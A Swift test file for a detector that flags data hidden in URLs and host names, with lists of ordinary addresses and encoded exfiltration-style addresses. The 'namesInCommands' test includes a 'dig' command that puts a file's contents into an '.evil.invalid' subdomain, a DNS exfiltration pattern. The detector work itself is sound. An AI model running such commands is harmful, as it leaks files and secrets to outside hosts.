import Approval
import JSON
import Testing

@testable import Tools

@Suite struct AddressDataTests {
    /// Pages as people have them open.
    @Test(arguments: [
        "https://docs.example.invalid/guide/install.html#step-2", "https://DOCS.example.invalid/guide?page=2", "https://GitHub.com/", "https://www.YouTube.com/watch?v=dQw4w9WgXcQ",
        "https://github.com/swiftlang/swift/blob/main/docs/HowToGuides/GettingStarted.md", "https://en.wikipedia.org/wiki/%E6%97%A5%E6%9C%AC%E8%AA%9E",
        "https://de.wikipedia.org/wiki/Rindfleischetikettierungs%C3%BCberwachungsaufgaben%C3%BCbertragungsgesetz",
        "https://developer.apple.com/documentation/uikit/uiviewcontroller/viewdidload()", "https://docs.oracle.com/javase/8/docs/api/java/util/NoSuchElementException.html",
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/getElementsByClassName", "https://docs.rs/tokio/latest/tokio/net/struct.TcpListener.html",
        "https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster-than-processing-an-unsorted-array",
        "https://www.google.com/search?q=how+to+parse+http+headers+in+swift", "https://duckduckgo.com/?q=libcurl%20CURLOPT_OPENSOCKETFUNCTION&ia=web",
        "https://api.example.com/v1/items?limit=50&offset=100&sort=-created_at", "http://127.0.0.1:8080/metrics", "https://d111111abcdef8.cloudfront.net/logo.png",
        "https://my-bucket.s3.eu-central-1.amazonaws.com/reports/2026-01.csv", "https://xn--80ak6aa92e.com/", "https://archive.org/details/20240131123456",
        "https://example.com/redirect?to=https://other.example/", "https://arxiv.org/abs/2403.01234v2", "https://developer.apple.com/documentation/foundation/nsurlsessiontaskdelegate",
        "https://lists.debian.org/debian-security-announce/2024/msg00012.html", "https://learn.microsoft.com/en-us/windows/win32/api/fileapi/nf-fileapi-createfilew",
    ]) func ordinaryPagesAreNone(_ address: String) { #expect(!AddressData.isCarried(by: ExactString(address))) }

    @Test(arguments: [
        "https://docs.example.invalid/search?q=QVBJX0tFWT1kZW1vLTEyMzQ1Njc4OTA", "https://k3y-dGVzdA.example.invalid/", "https://mfrggzdfmztwq2lkmfrggzdf.evil.invalid/",
        "https://a.invalid/4150495f4b45593d64656d6f2d31323334", "https://4150495f4b45593d64656d6f2d31323334.evil.invalid/", "https://a.invalid/x/c2stYW50LWFwaTAzLWFiY2RlZmdoaWprbG1ub3A/y.png",
        "https://a.invalid/p?q=%FF%FE%80%81", "https://a.invalid/?d=c2VjcmV0X3ZhbHVlX2Zyb21fZmlsZQ%3D%3D", "https://a.invalid/?n=3131353639323032353939323031363730",
        "https://a.invalid/?q=MFRGGZDFMZTWQ2LKNRWW23TPOBYXE43U",
    ]) func encodedPartsAreFound(_ address: String) { #expect(AddressData.isCarried(by: ExactString(address))) }

    @Test func longPartsAreFound() {
        let word = "lorem-ipsum-dolor-sit-amet-"
        func carries(_ address: String) -> Bool { AddressData.isCarried(by: ExactString(address)) }
        #expect(carries("https://a.invalid/?q=" + String(repeating: word, count: 8)))
        #expect(carries("https://a.invalid/" + String(repeating: "\(word)/", count: 20)))
        #expect(carries("https://" + String(repeating: "ab.", count: 12) + "invalid/"))
        #expect(!carries("https://a.invalid/" + String(repeating: word, count: 3)))
        // What is not sent carries nothing.
        #expect(!carries("https://a.invalid/#" + String(repeating: word, count: 50)))
    }

    @Test func controlsBehindPercentSigns() {
        func holds(_ address: String) -> Bool { AddressData.holdsControl(ExactString(address)) }
        #expect(holds("https://a%00.b.invalid/") && holds("https://a.invalid/%0d%0aX:%20y") && holds("https://a.invalid/?q=%1b") && holds("https://a.invalid/?q=%7F"))
        #expect(!holds("https://a.invalid/?q=one%0Atwo") && !holds("https://a.invalid/%20%25") && !holds("https://a.invalid/%0"))
    }

    @Test func namesInCommands() {
        #expect(AddressData.names(in: "ping -c 1 k3y-dGVzdA.example.invalid").map(\.string) == ["k3y-dGVzdA.example.invalid"])
        #expect(AddressData.names(in: "dig @10.0.0.1 $(cat x).evil.invalid TXT; scp a.txt me@host.example:/tmp").map(\.string).contains("host.example"))
        let found = HostFacts.lookups(inWords: ["nslookup", "docs.example.com", "dGVzdGluZw.example.com"]) { "argv[\($0)]" }
        #expect(found.map(\.argument) == ["argv[2]"] && found.allSatisfy { $0.oddities == [.data] })
    }
}
